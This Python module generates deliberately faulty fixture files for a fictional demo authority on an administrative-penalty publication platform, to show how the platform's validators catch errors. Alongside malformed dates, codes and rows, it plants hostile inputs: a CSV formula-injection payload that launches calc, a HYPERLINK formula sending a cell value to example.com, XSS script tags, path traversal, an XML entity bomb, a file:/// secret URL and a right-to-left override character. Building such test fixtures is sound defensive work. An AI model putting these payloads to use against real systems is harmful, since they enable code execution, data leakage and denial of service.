"""The feed of mistakes: one authority whose files show every error that can be shipped small.

Its good rows are published; every other row or file is refused or held with a reason.
"""

from pathlib import Path
from random import Random
from typing import Any

from openpyxl import Workbook

from . import forms, identity
from .decisions import NOTE
from .parties import organisation, person, trader

Record = dict[str, Any]
SLUG = "training"
NAME = "澜津市演示用错误数据报送点"


def profile(code: str) -> str:
    """The authority's TOML."""
    return f'''# 演示用错误数据：这个“机关”专门用来展示各种错误怎样被发现。全部虚构。
name = "{NAME}"
short_name = "演示用错误数据"
code = "{code}"
level = "市级"
division = "270000"
division_name = "澜津市"
field = "演示"
legal_nature = "演示用，不是真实机关"
superior = "澜津市人民政府"
address = "澜津市中埠区梭子巷0号"
postcode = "270000"
phone = "0399-55500000"
hours = "不对外办公"
duties = """
演示用错误数据。这里的文件故意写错，用来说明平台怎样指出错误的位置、原因和改法。写对的记录照常公开。
"""
basis = """
演示用，无执法权。
"""
procedure = """
演示用。
"""

[supervision]
unit = "演示用"
phone = "0399-55500001"

[remedies]
reconsideration = "澜津市人民政府"
court = "澜津市中埠区人民法院"

[feed]
publication_basis = "SOC"
disclosure_review = "standing"
'''


def _record(rng: Random, code: str, number: int, sort: str = "org") -> Record:
    division = "270104"
    make = {"org": organisation, "trader": trader}
    party = person(rng, division) if sort == "person" else make[sort](rng, "食品销售", division)
    return {
        "document_number": f"澜演罚〔2026〕{number}号", "kind": "行政处罚", "authority_code": code,
        "authority_name": NAME, "source_unit": NAME, "source_unit_code": code, "party": party,
        "violation": "未按规定保存进货票据", "title": "演示用行政处罚决定书",
        "facts": f"演示记录第{number}条：当事人未保存进货票据，经责令改正后已改正。",
        "penalty_kinds": ["警告", "罚款"],
        "basis": "《中华人民共和国食品安全法》第五十三条第一款、第一百二十六条第一款第（三）项",
        "outcome": "警告；处罚款人民币5000元。", "fine_cny": "5000.00",
        "decided_on": f"2026-0{number % 9 + 1}-1{number % 10}",
        "remarks": NOTE,
    }  # fmt: skip


def write(folder: Path, code: str, stranger: tuple[str, str]) -> None:
    """Write all files of the feed. ``stranger``: name and code of another authority."""
    rng = Random("training")
    _bad_rows(folder, rng, code, stranger)
    _bad_files(folder, rng, code)
    _bad_events(folder, rng, code, stranger)
    _bad_feeds(folder)


def _bad_rows(folder: Path, rng: Random, code: str, stranger: tuple[str, str]) -> None:
    at = {name: place for place, name in enumerate(forms.PENALTY_2018)}
    rows = [
        forms.penalty_2018(_record(rng, code, n, ("org", "trader", "person")[n % 3])) for n in range(1, 17)
    ]

    def put(row: int, column: str, value: str) -> None:
        rows[row][at[column]] = value

    put(1, "处罚机关", stranger[0])
    put(1, "处罚机关统一社会信用代码", stranger[1])
    uscc = rows[2][at["行政相对人代码_1(统一社会信用代码)"]]  # row 3 has a person: give it a broken code
    put(
        3,
        "行政相对人代码_1(统一社会信用代码)",
        _broken(rows[3][at["行政相对人代码_1(统一社会信用代码)"]] or uscc),
    )
    put(4, "处罚决定日期", "2098/01/01")
    put(5, "行政相对人代码_2(工商注册号)", identity.id_number(rng, identity.birthday(rng)))
    put(6, "违法事实", '=HYPERLINK("http://example.com/?"&A1,"点击查看")')
    put(7, "违法事实", "<script>alert('演示')</script>当事人未保存票据。<img src=x onerror=alert(1)>")
    put(9, "行政处罚决定书文号", "../../../演示罚〔2026〕10号")
    put(10, "备注", "@SUM(1+1)*cmd|' /C calc'!A0")
    put(12, "处罚类别", "没有这种处罚")
    put(13, "罚款金额（万元）", "待定")
    put(14, "处罚决定日期", "2026年13月40日")
    rows[15] = rows[15][:9]
    header = [*forms.PENALTY_2018, "内部流转号"]
    body = [[*row, f"N{n}"] if len(row) == len(forms.PENALTY_2018) else row for n, row in enumerate(rows)]
    forms.write_csv(folder / "bad-rows.csv", header, body, "utf-8-sig")


def _broken(uscc: str) -> str:
    return uscc[:17] + ("A" if uscc[17] != "A" else "B")


def _bad_files(folder: Path, rng: Random, code: str) -> None:
    row = forms.penalty_2018(_record(rng, code, 21))
    short = [name for name in forms.PENALTY_2018 if name not in ("处罚依据", "处罚决定日期")]
    keep = [forms.PENALTY_2018.index(name) for name in short]
    forms.write_csv(folder / "missing-columns.csv", short, [[row[n] for n in keep]], "utf-8")
    text = forms.csv_text(forms.PENALTY_2018, [forms.penalty_2018(_record(rng, code, 22))])
    (folder / "wrong-encoding.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("gb18030"))
    (folder / "empty.csv").write_bytes(b"")
    forms.write_csv(folder / "header-only.csv", forms.PENALTY_2018, [], "utf-8-sig")
    (folder / "unknown-format.docx").write_bytes("这不是平台认识的格式。".encode())
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(list(forms.PENALTY_2018))
    good = forms.penalty_2018(_record(rng, code, 23))
    formula = forms.penalty_2018(_record(rng, code, 24))
    formula[forms.PENALTY_2018.index("罚款金额（万元）")] = "=0.2+0.3"
    for cells in (good, formula):
        sheet.append(cells)
    forms.save_workbook(book, folder / "formula.xlsx")


def _bad_events(folder: Path, rng: Random, code: str, stranger: tuple[str, str]) -> None:
    first, second, foreign, minor = (_record(rng, code, n, "org") for n in (31, 32, 33, 34))
    foreign.update(authority_name=stranger[0], authority_code=stranger[1])
    extra = dict(_record(rng, code, 35), secret_note="不认识的字段")
    order = {
        "kind": "行政复议决定书",
        "number": "澜政复决〔2026〕77号",
        "body": "澜津市人民政府",
        "date": "2026-10-08",
    }

    turned = {**minor["party"], "name": "张\u202e公司限有"}

    def gone(number: str, sequence: int, **changes: Any) -> Record:
        return {
            "event": "withdraw", "sequence": sequence, "document_number": number, "ground": "REVOKED",
            "order": order, "reason": "复议机关依法撤销。", "effective_on": "2026-10-08", **changes,
        }  # fmt: skip

    events: list[Record] = forms.publish([first, second])
    events += [
        gone(first["document_number"], 3),
        {"event": "publish", "sequence": 1, "decision": first},
        {"event": "publish", "sequence": 4, "decision": {**first, "remarks": "重新报送。" + NOTE}},
        gone("澜演罚〔2026〕9999号", 5),
        gone(second["document_number"], 6, ground="没有这种情形"),
        gone(second["document_number"], 7, order={**order, "date": "2098-01-01"}),
        gone(second["document_number"], 8, reason=""),
        gone(second["document_number"], 9, extent=["不存在的部分"]),
        {"event": "publish", "sequence": 10, "decision": foreign},
        {"event": "publish", "sequence": 11, "decision": extra},
        {
            "event": "correct", "sequence": 12, "document_number": second["document_number"],
            "changes": {"outcome": "警告。"}, "reason": "录入错误。",
        },
        gone(second["document_number"], 17, ground="EXPIRED"),
        {"event": "delete", "sequence": 18, "document_number": second["document_number"]},
        {"event": "publish", "sequence": 19, "decision": {**minor, "party": turned}},
        {"event": "publish", "sequence": 20, "decision": {**_record(rng, code, 36), "fine_cny": "很多"}},
        {"event": "publish", "sequence": 2, "decision": _record(rng, code, 37)},
    ]  # fmt: skip
    forms.write_json_lines(folder / "bad-events.jsonl", events)
    with (folder / "bad-events.jsonl").open("a", encoding="utf-8") as file:
        file.write('{"event":"publish","sequence":16,"decision":{"document_number":\n')
        file.write('["这一行不是对象"]\n')


def _bad_feeds(folder: Path) -> None:
    bomb = [
        '<?xml version="1.0" encoding="utf-8"?>', "<!DOCTYPE feed [", '  <!ENTITY a "演示">',
        '  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">', '  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">', "]>",
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>&c;</title></feed>', "",
    ]  # fmt: skip
    (folder / "entity-bomb.atom").write_text("\n".join(bomb), "utf-8")
    text = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>声明为UTF-8，实际是GB18030</title></feed>\n"
    )
    (folder / "wrong-declaration.atom").write_bytes(text.encode("gb18030"))
    (folder / "broken.json").write_text(
        '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":', "utf-8"
    )
    (folder / "path.json").write_text(
        '{"version":"https://jsonfeed.org/version/1.1","title":"演示","items":[{"id":"1",'
        '"attachments":[{"url":"file:///../../secret"}],"_gongshi":null}]}\n',
        "utf-8",
    )
